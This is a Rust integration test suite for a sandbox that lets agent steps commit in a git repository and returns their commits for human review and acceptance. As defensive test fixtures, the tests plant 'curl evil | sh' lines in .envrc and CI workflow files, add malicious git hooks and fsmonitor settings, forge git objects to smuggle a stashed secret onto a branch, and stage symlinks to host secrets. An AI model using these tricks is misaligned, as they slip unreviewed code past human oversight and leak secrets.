//! Git inside the sandbox (issue 17): the project's `.git` is part of the copy-on-write view,
//! so a step can stage, commit, branch and stash; the commits it made come back as a series
//! the review lists, and accept adds them on top of the host's HEAD. The host's refs and
//! objects are never written before accept, and nothing of the step's git configuration or
//! hooks ever reaches the host.

mod support;

use std::path::Path;
use std::process::Output;

use support::native::{bin, git, sandboxes_usable};

/// A repository on branch `main` with one commit and a clean worktree.
fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["init", "-q", "-b", "main"]);
    std::fs::write(dir.path().join("a.txt"), "v1\n").unwrap();
    git(dir.path(), &["add", "a.txt"]);
    git(dir.path(), &["commit", "-q", "-m", "initial"]);
    dir
}

fn cli(dir: &Path, args: &[&str]) -> Output {
    bin().args(args).arg("--root").arg(dir).output().unwrap()
}

/// Runs a step that commits twice (and uses branch, stash and the index along the way);
/// returns its sandbox id.
fn run_committing_step(dir: &Path, extra: &str) -> String {
    let script = format!(
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         echo v2 > a.txt; $G add a.txt; $G commit -q -m 'first: edit a'; \
         echo scratch > s.txt; $G stash -q -u; $G stash drop -q; \
         $G branch experiment; \
         echo new > b.txt; $G add b.txt; $G commit -q -m 'second: add b' -m 'with a body'; \
         {extra}"
    );
    let (out, doc) = run_json(dir, &script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    doc["sandboxId"].as_str().unwrap().to_string()
}

/// `run --json --root ROOT -- sh -c SCRIPT`: its output and its JSON document.
fn run_json(root: &Path, script: &str) -> (Output, serde_json::Value) {
    let out = bin()
        .args(["--json", "run", "--root"])
        .arg(root)
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    let doc = serde_json::from_slice(&out.stdout).unwrap();
    (out, doc)
}

/// The NDJSON log of the bundle `doc` names.
fn bundle_log(doc: &serde_json::Value) -> String {
    std::fs::read_to_string(
        Path::new(doc["bundlePath"].as_str().unwrap()).join("logs/stream.ndjson"),
    )
    .unwrap()
}

fn objects(dir: &Path) -> String {
    git(dir, &["count-objects", "-v"])
}

#[test]
fn a_step_commits_twice_and_accept_puts_both_commits_on_the_host_branch() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let head_before = git(dir.path(), &["rev-parse", "HEAD"]);
    let objects_before = objects(dir.path());
    let id = run_committing_step(dir.path(), "true");

    // Nothing of the host's repository was written: its HEAD, refs and objects are as before.
    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head_before);
    assert_eq!(objects(dir.path()), objects_before);
    assert_eq!(git(dir.path(), &["branch", "--list", "experiment"]), "");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "v1\n"
    );

    // The review lists the series, oldest first.
    let review = cli(dir.path(), &["review", &id]);
    let text = String::from_utf8_lossy(&review.stdout);
    assert!(review.status.success(), "{review:?}");
    assert!(text.contains("2 commit(s) on main"), "{text}");
    let first = text.find("first: edit a").expect("first commit listed");
    let second = text.find("second: add b").expect("second commit listed");
    assert!(first < second, "{text}");
    assert!(text.contains("Agent <agent@example.com>"), "{text}");
    let review_json = cli(dir.path(), &["--json", "review", &id]);
    let doc: serde_json::Value = serde_json::from_slice(&review_json.stdout).unwrap();
    assert_eq!(
        doc["commits"]["commits"].as_array().unwrap().len(),
        2,
        "{doc}"
    );

    let accept = cli(dir.path(), &["accept", &id]);
    assert!(accept.status.success(), "{accept:?}");
    let log = git(dir.path(), &["log", "--format=%s|%an|%ae"]);
    assert_eq!(
        log,
        "second: add b|Agent|agent@example.com\nfirst: edit a|Agent|agent@example.com\ninitial|Host|host@example.com\n"
    );
    assert_eq!(
        git(dir.path(), &["status", "--porcelain"]),
        "",
        "a clean worktree"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("b.txt")).unwrap(),
        "new\n"
    );
    assert_eq!(
        git(dir.path(), &["log", "-1", "--format=%b"]).trim(),
        "with a body"
    );
    // Accepting it again changes nothing, and says what the rows say.
    let again = cli(dir.path(), &["--json", "accept", &id]);
    assert!(!again.status.success(), "{again:?}");
    let doc: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!(doc["review"], "applied", "{doc}");
    assert_eq!(doc["applied"], false, "{doc}");
    let shown = cli(dir.path(), &["--json", "show", &id]);
    let shown: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(doc["status"], shown["status"], "{doc} {shown}");
}

#[test]
fn the_steps_git_hooks_and_config_never_reach_the_host() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let marker = dir.path().join("../hook-ran");
    let _ = std::fs::remove_file(&marker);
    let config_before = std::fs::read(dir.path().join(".git/config")).unwrap();
    let evil = format!(
        "printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/post-merge; chmod +x .git/hooks/post-merge; \
         cp .git/hooks/post-merge .git/hooks/reference-transaction; \
         git config core.fsmonitor 'touch {m}'; git config core.hooksPath .git/hooks",
        m = marker.display()
    );
    let id = run_committing_step(dir.path(), &evil);
    let accept = cli(dir.path(), &["accept", &id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(git(dir.path(), &["log", "--format=%s"]).lines().count(), 3);
    // Host git commands after the accept run none of it either.
    git(dir.path(), &["status"]);
    assert!(
        !marker.exists(),
        "a hook or fsmonitor of the step's ran on the host"
    );
    assert_eq!(
        std::fs::read(dir.path().join(".git/config")).unwrap(),
        config_before
    );
    assert!(!dir.path().join(".git/hooks/post-merge").exists());
}

#[test]
fn a_host_head_that_moved_refuses_the_commits_and_applies_nothing() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let id = run_committing_step(dir.path(), "true");
    // The host commits meanwhile.
    std::fs::write(dir.path().join("host.txt"), "host\n").unwrap();
    git(dir.path(), &["add", "host.txt"]);
    git(dir.path(), &["commit", "-q", "-m", "host work"]);
    let head = git(dir.path(), &["rev-parse", "HEAD"]);
    let accept = cli(dir.path(), &["accept", &id]);
    assert!(!accept.status.success(), "{accept:?}");
    let err = String::from_utf8_lossy(&accept.stderr);
    assert!(err.contains("HEAD moved"), "{err}");
    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "v1\n"
    );
    assert!(!dir.path().join("b.txt").exists());
}

#[test]
fn uncommitted_changes_still_come_back_as_patches() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    std::fs::write(dir.path().join("c.txt"), "c1\n").unwrap();
    git(dir.path(), &["add", "c.txt"]);
    git(dir.path(), &["commit", "-q", "-m", "c"]);
    let id = run_committing_step(dir.path(), "echo draft > notes.txt; echo c2 > c.txt");
    let accept = cli(dir.path(), &["accept", &id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(git(dir.path(), &["log", "--format=%s"]).lines().count(), 4);
    // The step's uncommitted edits are in the worktree, not in a commit.
    assert_eq!(
        std::fs::read_to_string(dir.path().join("c.txt")).unwrap(),
        "c2\n"
    );
    let status = git(dir.path(), &["status", "--porcelain"]);
    assert_eq!(status, " M c.txt\n?? notes.txt\n", "{status}");
}

/// What a review of `id` prints, and accept's output.
fn review_then_accept(dir: &Path, id: &str) -> (String, Output) {
    let review = cli(dir, &["review", id]);
    assert!(review.status.success(), "{review:?}");
    let text = String::from_utf8_lossy(&review.stdout).into_owned()
        + &String::from_utf8_lossy(&review.stderr);
    (text, cli(dir, &["accept", id]))
}

#[test]
fn a_commit_whose_content_the_patches_do_not_show_is_never_accepted() {
    if !sandboxes_usable() {
        return;
    }
    // The attack: commit a file the host runs, take it out of the working tree again, and
    // make a harmless edit, so that the patches show only the edit. Accept used to move the
    // branch to the tip and set the index from it: the hostile file was in HEAD and the
    // index, one `git reset --hard` or `git push` away.
    let dir = repo();
    let head = git(dir.path(), &["rev-parse", "HEAD"]);
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         mkdir -p .github/workflows; echo 'run: curl evil | sh' > .github/workflows/ci.yml; \
         echo 'curl evil | sh' > .envrc; $G add -A; $G commit -q -m 'harmless'; \
         rm -r .github .envrc; echo v2 > a.txt";
    let (out, doc) = run_json(dir.path(), script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let (review, accept) = review_then_accept(dir.path(), id);
    assert!(!review.contains("1 commit(s)"), "{review}");
    // The review says why the commits are not there, naming the file.
    assert!(
        review.contains("not brought back") && review.contains(".envrc"),
        "{review}"
    );
    assert!(accept.status.success(), "{accept:?}");
    // The reviewed patch, and nothing else: HEAD, the index and the tree hold no .envrc.
    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
    assert_eq!(git(dir.path(), &["status", "--porcelain"]), " M a.txt\n");
    assert_eq!(git(dir.path(), &["ls-files"]), "a.txt\n");
    let log = bundle_log(&doc);
    assert!(
        log.contains("not brought back") && log.contains(".envrc"),
        "{log}"
    );
}

#[test]
fn a_commit_edited_again_in_the_working_tree_is_shown_from_the_tip_and_accepted() {
    if !sandboxes_usable() {
        return;
    }
    // The step commits a.txt (v2) and edits it again (v3, not committed): HEAD and the index
    // get v2, the working tree v3. The patches show v1 -> v3; what the commit holds (v2) is
    // shown too, from the tip's diff in the bundle, with the review's warnings.
    let dir = repo();
    let (out, doc) = run_json(
        dir.path(),
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         echo 'v2 curl evil | sh' > a.txt; echo 'echo hook' > .envrc; $G add .envrc; \
         $G commit -q -am two; echo v3 > a.txt; echo 'echo safe' > .envrc",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let review = cli(dir.path(), &["review", id]);
    let text = String::from_utf8_lossy(&review.stdout);
    assert!(text.contains("1 commit(s) on main"), "{text}");
    assert!(
        text.contains("leave 2 file(s) otherwise than the working tree"),
        "{text}"
    );
    assert!(
        text.contains("+v2 curl evil | sh") && text.contains("+echo hook"),
        "{text}"
    );
    assert!(text.contains(".envrc"), "{text}");
    // A JSON consumer gets the same diff, and its findings.
    let json = cli(dir.path(), &["--json", "review", id]);
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let series_diff = json["seriesDiff"]["diff"].as_str().unwrap_or_default();
    assert!(series_diff.contains("+v2 curl evil | sh"), "{json}");
    assert!(
        json["seriesDiff"]["findings"]
            .to_string()
            .contains(".envrc"),
        "{json}"
    );
    // The review's digest covers that diff: changed after the review, nothing is applied.
    let series = Path::new(doc["bundlePath"].as_str().unwrap()).join("git/series.patch");
    let shown = std::fs::read(&series).unwrap();
    std::fs::write(&series, b"diff --git a/x b/x\n").unwrap();
    let tampered = cli(dir.path(), &["accept", id]);
    assert!(!tampered.status.success(), "{tampered:?}");
    std::fs::write(&series, &shown).unwrap();
    let accept = cli(dir.path(), &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(
        git(dir.path(), &["show", "HEAD:a.txt"]),
        "v2 curl evil | sh\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "v3\n"
    );
    assert_eq!(
        git(dir.path(), &["status", "--porcelain"]),
        " M .envrc\n M a.txt\n"
    );
}

#[test]
fn a_commit_that_adds_smithers_state_or_a_nested_git_path_is_refused() {
    if !sandboxes_usable() {
        return;
    }
    // `.smithers/` is hidden in the sandbox, but a step can still put it in a commit through
    // the index; a nested `.smithers` can simply be added. Neither is ever committed on the
    // host, in any commit of the series, even one a later commit takes out again.
    let dir = repo();
    let head = git(dir.path(), &["rev-parse", "HEAD"]);
    let (out, doc) = run_json(
        dir.path(),
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         b=$(echo crafted | $G hash-object -w --stdin); \
         $G update-index --add --cacheinfo 100644,$b,.smithers/sandbox.db; \
         $G commit -q -m one; $G rm -q --cached .smithers/sandbox.db; $G commit -q -m two; \
         echo v2 > a.txt; $G commit -q -am three",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let log = bundle_log(&doc);
    assert!(log.contains(".smithers"), "{log}");
    let (review, accept) = review_then_accept(dir.path(), id);
    assert!(!review.contains("commit(s) on"), "{review}");
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
    let all = git(dir.path(), &["log", "--all", "--format=%s"]);
    assert_eq!(all, "initial\n", "{all}");
}

#[test]
fn plain_accept_of_commits_on_another_branch_names_accept_branch() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let (out, doc) = run_json(
        dir.path(),
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         $G checkout -q -b feature; echo v2 > a.txt; $G commit -q -am feature",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let accept = cli(dir.path(), &["accept", id]);
    assert!(!accept.status.success(), "{accept:?}");
    let err = String::from_utf8_lossy(&accept.stderr);
    assert!(err.contains("accept --branch feature"), "{err}");
    let onto = cli(dir.path(), &["accept", id, "--branch", "feature"]);
    assert!(onto.status.success(), "{onto:?}");
    assert_eq!(
        git(dir.path(), &["log", "--format=%s", "feature"]),
        "feature\ninitial\n"
    );
}

#[test]
fn a_step_in_a_worktree_commits_onto_the_worktrees_branch() {
    if !sandboxes_usable() {
        return;
    }
    let main = repo();
    let parent = tempfile::tempdir().unwrap();
    let wt = parent.path().join("wt");
    git(
        main.path(),
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "feature",
            wt.to_str().unwrap(),
        ],
    );
    let objects_before = objects(main.path());
    let feature_before = git(main.path(), &["rev-parse", "feature"]);
    let id = run_committing_step(&wt, "true");
    // The repository (its objects and the worktree's branch) is untouched before accept.
    assert_eq!(objects(main.path()), objects_before);
    assert_eq!(git(main.path(), &["rev-parse", "feature"]), feature_before);
    let review = cli(&wt, &["review", &id]);
    assert!(
        String::from_utf8_lossy(&review.stdout).contains("2 commit(s) on feature"),
        "{review:?}"
    );
    let accept = cli(&wt, &["accept", &id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(
        git(&wt, &["log", "--format=%s"]),
        "second: add b\nfirst: edit a\ninitial\n"
    );
    assert_eq!(git(&wt, &["status", "--porcelain"]), "");
    // The main worktree's branch is where it was.
    assert_eq!(
        git(main.path(), &["log", "--format=%s", "main"]),
        "initial\n"
    );
}

#[test]
fn a_root_below_the_repository_top_gets_the_parents_gitignore() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    std::fs::write(dir.path().join(".gitignore"), "*.log\n").unwrap();
    let sub = dir.path().join("sub");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(sub.join("kept.txt"), "v1\n").unwrap();
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-q", "-m", "sub"]);
    let out = bin()
        .args(["--json", "run", "--root"])
        .arg(&sub)
        .args([
            "--",
            "sh",
            "-c",
            "echo v2 > kept.txt; echo noise > build.log",
        ])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let paths: Vec<&str> = doc["patches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["kept.txt"], "{doc}");
    let left_out = doc["changeNotes"]["leftOut"].to_string();
    assert!(left_out.contains("build.log"), "{doc}");
}

#[test]
fn accept_onto_a_named_branch_leaves_head_and_the_worktree_alone() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let id = run_committing_step(dir.path(), "true");
    let accept = cli(dir.path(), &["accept", &id, "--branch", "agent/work"]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(
        git(dir.path(), &["log", "--format=%s", "agent/work"]),
        "second: add b\nfirst: edit a\ninitial\n"
    );
    assert_eq!(
        git(dir.path(), &["log", "--format=%s", "main"]),
        "initial\n"
    );
    assert_eq!(
        git(dir.path(), &["rev-parse", "--abbrev-ref", "HEAD"]),
        "main\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "v1\n"
    );
    assert_eq!(git(dir.path(), &["status", "--porcelain"]), "");

    // A step that left changes it did not commit: --branch would lose them, so it is refused
    // (nothing created, the review still pending); a plain accept then applies everything.
    let id = run_committing_step(dir.path(), "echo draft > notes.txt");
    let refused = cli(dir.path(), &["accept", &id, "--branch", "agent/other"]);
    assert!(!refused.status.success(), "{refused:?}");
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("notes.txt"),
        "{refused:?}"
    );
    assert_eq!(git(dir.path(), &["branch", "--list", "agent/other"]), "");
    let existing = cli(dir.path(), &["accept", &id, "--branch", "agent/work"]);
    assert!(!existing.status.success(), "{existing:?}");
    assert!(cli(dir.path(), &["accept", &id]).status.success());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(),
        "draft\n"
    );
}

#[test]
fn a_step_whose_root_is_below_the_repository_top_commits_its_files() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let sub = dir.path().join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::create_dir_all(dir.path().join("other")).unwrap();
    std::fs::write(sub.join("kept.txt"), "v1\n").unwrap();
    std::fs::write(dir.path().join("other/x.txt"), "x\n").unwrap();
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-q", "-m", "layout"]);
    // The step sees only sub/, yet its git works: nothing outside shows as deleted, and a
    // commit of everything commits only its own change.
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
                  echo v2 > kept.txt; $G status --porcelain; $G add -A; $G commit -qm 'sub: edit kept'";
    let (out, doc) = run_json(&sub, script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let log = bundle_log(&doc);
    assert!(log.contains(" M sub/kept.txt"), "{log}");
    assert!(
        !log.contains(" D "),
        "files outside the project showed as deleted: {log}"
    );
    assert_eq!(
        doc["changeNotes"]["commits"]["commits"][0]["subject"], "sub: edit kept",
        "{doc}"
    );
    let id = doc["sandboxId"].as_str().unwrap();
    let accept = cli(&sub, &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(
        git(dir.path(), &["log", "--format=%s"]),
        "sub: edit kept\nlayout\ninitial\n"
    );
    assert_eq!(git(dir.path(), &["status", "--porcelain"]), "");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("other/x.txt")).unwrap(),
        "x\n"
    );

    // A commit that changes files outside the project is not brought back (its files are).
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
                  echo v3 > kept.txt; $G update-index --force-remove ../other/x.txt; $G commit -qam 'reach out'";
    let (out, doc) = run_json(&sub, script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    assert!(doc["changeNotes"]["commits"].is_null(), "{doc}");
    let log = bundle_log(&doc);
    assert!(log.contains("outside the project"), "{log}");
    let reach_out = doc["sandboxId"].as_str().unwrap().to_string();
    assert!(cli(&sub, &["reject", &reach_out]).status.success());

    // `--branch` compares the project's patches with the series' files from the top.
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
                  echo v4 > kept.txt; $G commit -qam 'sub: on a branch'";
    let (out, doc) = run_json(&sub, script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let accept = cli(&sub, &["accept", id, "--branch", "sub-work"]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(
        git(dir.path(), &["log", "-1", "--format=%s", "sub-work"]),
        "sub: on a branch\n"
    );

    // Committed, then edited again, below the top: the tip's diff is made relative to the
    // project at collect and on the host alike.
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
                  echo v5 > kept.txt; $G commit -qam 'sub: v5'; echo v6 > kept.txt";
    let (out, doc) = run_json(&sub, script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    assert_eq!(
        doc["changeNotes"]["commits"]["tipDiffers"][0], "kept.txt",
        "{doc}"
    );
    let id = doc["sandboxId"].as_str().unwrap();
    let accept = cli(&sub, &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    assert_eq!(git(dir.path(), &["show", "HEAD:sub/kept.txt"]), "v5\n");
    assert_eq!(
        git(dir.path(), &["status", "--porcelain"]),
        " M sub/kept.txt\n"
    );
}

#[test]
fn every_commit_accept_puts_on_the_branch_is_listed_as_it_really_is() {
    if !sandboxes_usable() {
        return;
    }
    // git trusts a loose object's name: a step that writes an object named after a host
    // commit (here the user's stash) with made-up content ("harmless refactor") and builds
    // on it used to get that description into the review, while accept grafted the host's
    // real commit, and the stash's secret, into the branch.
    let dir = repo();
    let base = git(dir.path(), &["rev-parse", "HEAD"]).trim().to_string();
    std::fs::write(dir.path().join("a.txt"), "v1\nDB_PASSWORD=secret\n").unwrap();
    git(dir.path(), &["stash", "-q"]);
    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         S=$(git rev-parse refs/stash); \
         F=$(printf 'tree %s\\nparent %s\\nauthor a <a@a> 1700000000 +0000\\ncommitter a <a@a> 1700000000 +0000\\n\\nharmless refactor\\n' \
             $(git rev-parse 'HEAD^{tree}') $(git rev-parse HEAD) | $G hash-object -w -t commit --stdin); \
         s1=$(echo $S | cut -c1-2); s2=$(echo $S | cut -c3-); f1=$(echo $F | cut -c1-2); f2=$(echo $F | cut -c3-); \
         mkdir -p .git/objects/$s1; rm -f .git/objects/$s1/$s2; cp .git/objects/$f1/$f2 .git/objects/$s1/$s2; \
         echo v2 > a.txt; $G add a.txt; \
         T=$($G commit-tree $($G write-tree) -p $S -m 'fix typo'); $G update-ref refs/heads/main $T";
    let (out, doc) = run_json(dir.path(), script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let review = cli(dir.path(), &["--json", "review", id]);
    let review: serde_json::Value = serde_json::from_slice(&review.stdout).unwrap();
    let listed: std::collections::BTreeSet<String> = review["commits"]["commits"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|c| {
                    format!(
                        "{} {}",
                        c["oid"].as_str().unwrap(),
                        c["subject"].as_str().unwrap()
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !listed.iter().any(|l| l.contains("harmless refactor")),
        "{listed:?}"
    );
    let accept = cli(dir.path(), &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    let on_branch: std::collections::BTreeSet<String> = git(
        dir.path(),
        &["log", "--format=%H %s", &format!("{base}..HEAD")],
    )
    .lines()
    .map(str::to_string)
    .collect();
    assert_eq!(
        on_branch, listed,
        "the branch got commits the review did not list"
    );
}

#[test]
fn a_file_the_host_runs_in_an_intermediate_commit_is_flagged_in_the_review() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let (out, doc) = run_json(
        dir.path(),
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         mkdir -p .github/workflows; echo 'run: curl evil | sh' > .github/workflows/x.yml; \
         $G add -A; $G commit -q -m 'add helper'; $G rm -q .github/workflows/x.yml; \
         echo v2 > a.txt; $G commit -q -am 'fix typo' -m 'body line'",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let review = cli(dir.path(), &["review", id]);
    let text = String::from_utf8_lossy(&review.stdout);
    assert!(text.contains("2 commit(s) on main"), "{text}");
    assert!(text.contains("runs on the host"), "{text}");
    assert!(text.contains("| body line"), "{text}");
}

#[test]
fn what_the_step_staged_is_staged_on_accept_and_shown_first() {
    if !sandboxes_usable() {
        return;
    }
    // `git add` of a new file, `git rm` of a tracked one, an unstaged edit, and a file added
    // then edited again (its staged content was never reviewed: left unstaged).
    let dir = repo();
    std::fs::write(dir.path().join("gone.txt"), "bye\n").unwrap();
    git(dir.path(), &["add", "gone.txt"]);
    git(dir.path(), &["commit", "-q", "-m", "gone"]);
    let (out, doc) = run_json(
        dir.path(),
        "set -e; echo new > n.txt; git add n.txt; git rm -q gone.txt; echo v2 > a.txt; \
         echo first > later.txt; git add later.txt; echo second > later.txt",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let review = cli(dir.path(), &["review", id]);
    let text = String::from_utf8_lossy(&review.stdout);
    let staged_at = text
        .find("staged")
        .expect("the review names what is staged");
    assert!(
        staged_at < text.find("diff --git").unwrap_or(usize::MAX),
        "{text}"
    );
    let json = cli(dir.path(), &["--json", "review", id]);
    let doc: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let mut staged: Vec<&str> = doc["staged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    staged.sort();
    assert_eq!(staged, ["gone.txt", "n.txt"], "{doc}");
    let accept = cli(dir.path(), &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    let status = git(dir.path(), &["status", "--porcelain"]);
    assert_eq!(
        status, " M a.txt\nD  gone.txt\nA  n.txt\n?? later.txt\n",
        "{status}"
    );
}

#[test]
fn a_staged_symlink_is_staged_as_a_link_and_its_target_is_never_read() {
    if !sandboxes_usable() {
        return;
    }
    // `git hash-object <path>` follows a link: staging a staged link that way copied the
    // host file it names into the project's objects, where the next step could read it.
    let dir = repo();
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "TOP-SECRET\n").unwrap();
    let script = format!(
        "set -e; ln -s {} l; git add l; echo more >> a.txt; git add a.txt",
        secret.path().display()
    );
    let (out, doc) = run_json(dir.path(), &script);
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let accept = cli(dir.path(), &["accept", id]);
    assert!(accept.status.success(), "{accept:?}");
    let staged = git(dir.path(), &["ls-files", "-s", "l"]);
    assert!(staged.starts_with("120000 "), "{staged}");
    assert_eq!(
        git(dir.path(), &["cat-file", "-p", ":l"]),
        secret.path().display().to_string()
    );
    let content_id = std::process::Command::new("git")
        .args(["hash-object", "--stdin"])
        .stdin(std::fs::File::open(secret.path()).unwrap())
        .output()
        .unwrap();
    let content_id = String::from_utf8_lossy(&content_id.stdout)
        .trim()
        .to_string();
    let found = std::process::Command::new("git")
        .args(["cat-file", "-e", &content_id])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(
        !found.success(),
        "the link's target was copied into the objects"
    );
    assert_eq!(
        git(dir.path(), &["status", "--porcelain"]),
        "M  a.txt\nA  l\n"
    );
}

#[test]
fn a_file_the_host_runs_is_listed_past_the_per_commit_cap() {
    if !sandboxes_usable() {
        return;
    }
    let dir = repo();
    let (out, doc) = run_json(
        dir.path(),
        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
         i=0; while [ $i -lt 210 ]; do echo x > f$i; i=$((i+1)); done; echo 'curl evil | sh' > .envrc; \
         $G add -A; $G commit -qm many; $G rm -q .envrc; $G rm -q 'f*'; $G commit -qm tidy; \
         echo v2 > a.txt; $G commit -qam edit",
    );
    assert_eq!(doc["exitCode"], 0, "{out:?}");
    let id = doc["sandboxId"].as_str().unwrap();
    let review = cli(dir.path(), &["review", id]);
    let text = String::from_utf8_lossy(&review.stdout);
    assert!(text.contains("more file(s)"), "{text}");
    assert!(
        text.contains(".envrc") && text.contains("runs on the host"),
        "{text}"
    );
}
